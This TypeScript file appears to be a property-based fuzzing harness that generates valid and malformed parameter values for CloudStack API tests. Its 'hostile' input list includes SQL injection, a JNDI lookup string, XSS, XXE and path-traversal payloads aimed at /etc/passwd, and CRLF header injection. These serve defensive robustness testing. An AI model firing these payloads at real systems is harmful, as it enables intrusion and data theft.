/** What is put into parameters: the sensible, by type and name, and what nobody hopes for. */
import type { ParamSpec } from '@cloud/contract'
import fc from 'fast-check'

/** Ids of things that exist, by response class. */
export type Pool = ReadonlyMap<string, readonly string[]>

/** One parameter, or the many that a map takes. */
export type Pairs = readonly (readonly [name: string, value: string])[]

const hostile = [
  '',
  ' ',
  '\u0000',
  '\u0007bell',
  '\t',
  '\r\nSet-Cookie: a=b',
  '\u001b[31m',
  '\u007f',
  '\u0085\u2028\u2029',
  '\u202eevil',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324',
  '👩‍👩‍👧‍👦',
  '\ufeff',
  '\ufffe',
  '\ud83d\ude00'.repeat(100),
  'x'.repeat(256),
  'x'.repeat(20_000),
  'ß'.repeat(5000),
  "'",
  "' or '1'='1",
  '"; drop table vm; --',
  '%',
  '_',
  '%_%_%',
  '%'.repeat(200),
  '\\',
  '\\u0041',
  '[0].name',
  'a[0]',
  '${jndi:ldap://192.0.2.1/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ']]>',
  '../../../etc/passwd',
  'file:///etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'true',
  '{"a":[1]}',
  '[1,2]',
  ',',
  ',,,,',
  '1,2,1',
  ';',
  '=',
  '&',
  '*',
  '(',
  '.*(a+)+$',
]

const numbers = [
  '0',
  '1',
  '2',
  '7',
  '-1',
  '-2',
  '+5',
  ' 5 ',
  '05',
  '80',
  '443',
  '65535',
  '65536',
  '2147483647',
  '2147483648',
  '-2147483649',
  '4294967296',
  '9007199254740991',
  '9007199254740993',
  '-9007199254740991',
  '9223372036854775807',
  '9223372036854775808',
  '99999999999999999999999999',
  '1.5',
  '-0',
  '0.000001',
  '1e3',
  '1e308',
  '1e999',
  '0x10',
  'Infinity',
  '١٢',
]

const dates = [
  '2026-01-01',
  '2026-01-01 10:00:00',
  '2026-11-23T04:31:42+0000',
  '2030-01-01T00:00:00Z',
  '2020-13-99x',
  '0000-00-00',
  '0001-01-01',
  '9999-12-31 23:59:59',
  '99999-1-1',
  '275760-09-13T00:00:01Z',
  '-1-1-1',
  '2026-02-30',
  '1-1-1 99:99:99',
  '2026-01-01T00:00:00+9999',
]

const words = (
  'a name x1 admin ROOT Enabled Disabled Enable Disable enabled Running Stopped Ready Basic Advanced Isolated Shared L2 Guest Public ' +
  'Management Storage Simulator KVM tcp udp icmp all TCP 22 80 1-100 5-3 100-101 untagged vlan://12 10.0.0.0/8 10.1.1.0/24 0.0.0.0/0 ' +
  '10.0.0.0/33 10.0.0.0/-1 192.0.2.15 10.9.0.20 256.1.1.1 255.255.255.0 255.0.255.0 10.9.0.2-10.9.0.9 fd00::/64 fd00::1 ::/129 ' +
  '02:00:00:00:00:01 zz:00 http://192.0.2.1/x.qcow2 http://[::1 nfs://192.0.2.9/p nfs://x https://u:p@h:99999/ VHD QCOW2 ISO host ' +
  'zone cluster ZONE UserVm Volume Template Snapshot user_vm all featured self executable roundrobin source leastconn SourceBased ' +
  'LbCookie HOURLY DAILY 15 30:10 61:99 0:0:32 UTC Europe/Berlin Nowhere/Land a@example.org host-anti-affinity ssh-rsa aGVsbG8= ' +
  'Allow Deny Ingress Egress allow deny listZones *'
).split(' ')
const plausible = [...words, 'host anti-affinity', 'host affinity', '2026-01-01']

const pick = (list: readonly string[]) => fc.constantFrom(...list)
const anyText = fc.string({
  unit: fc.nat({ max: 0xffff }).map(code => String.fromCharCode(code)),
  maxLength: 40,
})
const rude = fc.oneof(
  { weight: 4, arbitrary: pick(hostile) },
  { weight: 1, arbitrary: anyText },
  pick(numbers),
)

const nobody = [
  '11111111-2222-3333-4444-555555555555',
  '-1',
  '0',
  '1',
  '2',
  '4',
  'x11111111-2222-3333-4444-555555555555y',
]

/** What texts may mean, by the name of the parameter; all others come from `plausible`. */
const byName: readonly (readonly [RegExp, readonly string[]])[] = [
  [/cidr/, ['10.1.2.0/24', '0.0.0.0/0', '10.1.1.0/24,10.1.2.0/24', '10.0.0.0/33', 'fd00::/64']],
  [/^(start|end)ip$/, ['10.8.0.60', '10.8.0.70', '192.0.2.30', '192.0.2.40', '10.9.7.251']],
  [
    /ip$|^ip|gateway|dns|address|nexthop/,
    ['10.1.1.1', '192.0.2.12', '10.9.0.77', '203.0.113.9', 'fd00::1', '1.2.3.4,5'],
  ],
  [/netmask/, ['255.255.255.0', '255.255.0.0', '255.255.255.0', '255.0.255.0']],
  [
    /url|path/,
    ['http://192.0.2.1/x.qcow2', 'http://192.0.2.1/x.iso', 'nfs://192.0.2.9/more', 'http://sim/c/h77', '/'],
  ],
  [/port/, ['22', '80', '0', '65536', '-1', '90-80']],
  [/vlan/, ['100', '110-111', '4095', '0', 'untagged', '5-3', 'vlan://7']],
  [/state$|^state/, ['Enabled', 'Disabled', 'Enable', 'Disable', 'Running', 'Up', 'Active', 'Nowhere']],
  [/^(account|username)$/, ['admin', 'ann', 'dave', 'nobody']],
  [/hypervisor/, ['Simulator', 'Simulator', 'KVM']],
  [/^entitytype/, ['VM', 'VOLUME', 'HOST', 'ZONE', 'PRIMARY_STORAGE']],
  [/^resourcetype/, ['UserVm', 'Volume', 'Network', 'SecurityGroup', 'Zone', '1', 'cpu']],
  [/^publickey/, ['ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7 a@b', 'ssh-rsa x', 'nope']],
  [/^ikepolicy|^esppolicy/, ['aes128-sha1;modp1536', 'aes256-sha256;modp2048', 'aes128-sha1', 'des']],
  [/^schedule/, ['15', '30:10', '0:0:1', '0:0:32', '61:99']],
  [/^intervaltype/, ['HOURLY', 'DAILY', 'WEEKLY', 'MONTHLY']],
  [/^timezone/, ['UTC', 'Europe/Berlin', 'Nowhere/Land']],
  [/^algorithm/, ['roundrobin', 'leastconn', 'source']],
  [/^methodname/, ['LbCookie', 'AppCookie', 'SourceBased']],
  [/^format/, ['QCOW2', 'VHD', 'RAW', 'ISO']],
  [/^userdata|^userdatas/, ['aGVsbG8=', 'not base64 !']],
  [/^permission|^action/, ['allow', 'deny', 'Allow', 'Deny']],
  [/^rule$/, ['listZones', 'list*', '*', 'list zones']],
  [/^protocol/, ['tcp', 'udp', 'icmp', 'all', '47']],
  [/^provider|^serviceprovider/, ['NFS', 'VirtualRouter', 'DefaultPrimary', 'totp']],
  [
    /^(from|to|all)?(guestiptype|networktype|traffictype)/,
    ['Isolated', 'Shared', 'L2', 'Guest', 'Public', 'Basic', 'Advanced'],
  ],
  [/^supportedservices/, ['Dhcp,Dns', 'Dhcp', 'SourceNat,Dhcp,Dns,Firewall']],
  [/^scope/, ['cluster', 'zone', 'host']],
  [/^op$/, ['add', 'remove', 'reset']],
  [/^domain(path)?$/, ['/acme', '/', 'ROOT']],
]

/** Names of things in texts, where CloudStack takes a uuid for a text. */
const isId = (name: string) => /ids?$/.test(name)

function textFor({ name }: ParamSpec, pool: Pool): readonly string[] {
  const all = isId(name) ? [...pool.values()].flat() : []
  if (all.length > 0) return all
  return byName.find(([pattern]) => pattern.test(name))?.[1] ?? plausible
}

/** @param nice whether what is put in should make sense */
export function valueOf(param: ParamSpec, pool: Pool, nice: boolean): fc.Arbitrary<Pairs> {
  if (param.type === 'map') return mapOf(param.name, nice)
  if (!nice) return fc.oneof({ weight: 20, arbitrary: scalar(param, pool, nice) }, mapOf(param.name, nice))
  return scalar(param, pool, nice)
}

function scalar(param: ParamSpec, pool: Pool, nice: boolean): fc.Arbitrary<Pairs> {
  return scalarOf(param, pool, nice).map(value => [[param.name, value]])
}

const numeric = new Set(['integer', 'long', 'short', 'double'])

/** Numbers are tried at the edges of their types above all. */
const rudeFor = ({ type }: ParamSpec) =>
  numeric.has(type) ? fc.oneof({ weight: 3, arbitrary: pick(numbers) }, rude) : rude

function scalarOf(param: ParamSpec, pool: Pool, nice: boolean): fc.Arbitrary<string> {
  if (!nice)
    return fc.oneof(
      { weight: 3, arbitrary: rudeFor(param) },
      { weight: 1, arbitrary: scalarOf(param, pool, true) },
    )
  const ids = (param.entityType ?? []).flatMap(type => pool.get(type) ?? [])
  switch (param.type) {
    case 'uuid':
      return ids.length > 0 ? fc.oneof({ weight: 9, arbitrary: pick(ids) }, pick(nobody)) : pick(nobody)
    case 'boolean':
      return pick(['true', 'false'])
    case 'integer':
    case 'long':
    case 'short':
    case 'double':
      return fc.oneof(pick(numbers), { weight: 5, arbitrary: fc.integer({ min: 1, max: 64 }).map(String) })
    case 'date':
      return pick(dates)
    case 'list':
      return fc
        .array(pick(param.collectionType === 'uuid' && ids.length > 0 ? ids : textFor(param, pool)), {
          maxLength: 3,
        })
        .map(items => items.join(','))
    default:
      return pick(textFor(param, pool))
  }
}

const keys = [
  'key',
  'value',
  'name',
  'rule',
  'permission',
  'cpuNumber',
  'memory',
  'cpuSpeed',
  'rootdisksize',
  'networkid',
  'ip',
  'service',
  'provider',
  'capabilitytype',
  'capabilityvalue',
  'startport',
  'endport',
  'account',
  'group',
  'user',
  'vmid',
]
const rudeKeys = ['', '__proto__', 'constructor', 'a.b', '[', '<x>', "'", 'x'.repeat(300), '\u0000', '👩‍👩‍👧‍👦']
const rudeIndexes = ['0', '00', '-1', '1.5', 'x', '', '99999999999999999999', '0][1']

/** Fields that belong together. */
const maps: readonly (readonly [RegExp, Readonly<Record<string, readonly string[]>>])[] = [
  [/^tags/, { key: ['a', 'env', 'b'], value: ['b', '1'] }],
  [/^rules/, { rule: ['listZones', 'list*'], permission: ['allow', 'deny'] }],
  [
    /^serviceproviderlist/,
    { service: ['Dhcp', 'Dns', 'SourceNat'], provider: ['VirtualRouter', 'VpcVirtualRouter'] },
  ],
  [
    /^servicecapabilitylist/,
    { service: ['SourceNat'], capabilitytype: ['SupportedSourceNatTypes'], capabilityvalue: ['peraccount'] },
  ],
  [/^usersecuritygrouplist/, { account: ['admin', 'ann'], group: ['default', 'g'] }],
  [/details/, { cpuNumber: ['1', '2'], cpuSpeed: ['500'], memory: ['256'], rootdisksize: ['5'], a: ['b'] }],
]

function niceMap(name: string): fc.Arbitrary<Pairs> {
  const fields = maps.find(([pattern]) => pattern.test(name))?.[1]
  if (!fields) return fc.array(fc.tuple(pick(keys), pick(plausible)), { minLength: 1, maxLength: 3 }).map(put)
  return fc
    .tuple(...Object.entries(fields).map(([key, of]) => pick(of).map(value => [key, value] as const)))
    .map(put)

  function put(entries: readonly (readonly [string, string])[]): Pairs {
    return entries.map(([key, value]) => [`${name}[0].${key}`, value])
  }
}

function mapOf(name: string, nice: boolean): fc.Arbitrary<Pairs> {
  if (nice) return niceMap(name)
  const key = fc.oneof(pick(keys), pick(rudeKeys))
  const value = fc.oneof(rude, pick(plausible))
  const entry = fc.tuple(pick(rudeIndexes), key, value).map(([i, k, v]) => [`${name}[${i}].${k}`, v] as const)
  const bare = rude.map(v => [name, v] as const)
  const broken = pick([
    `${name}[`,
    `${name}]0[`,
    `${name}[0]`,
    `${name}[0].`,
    `${name}[0]x`,
    `[0].${name}`,
  ]).map(n => [n, 'x'] as const)
  return fc.array(fc.oneof(entry, bare, broken), { maxLength: 3 })
}
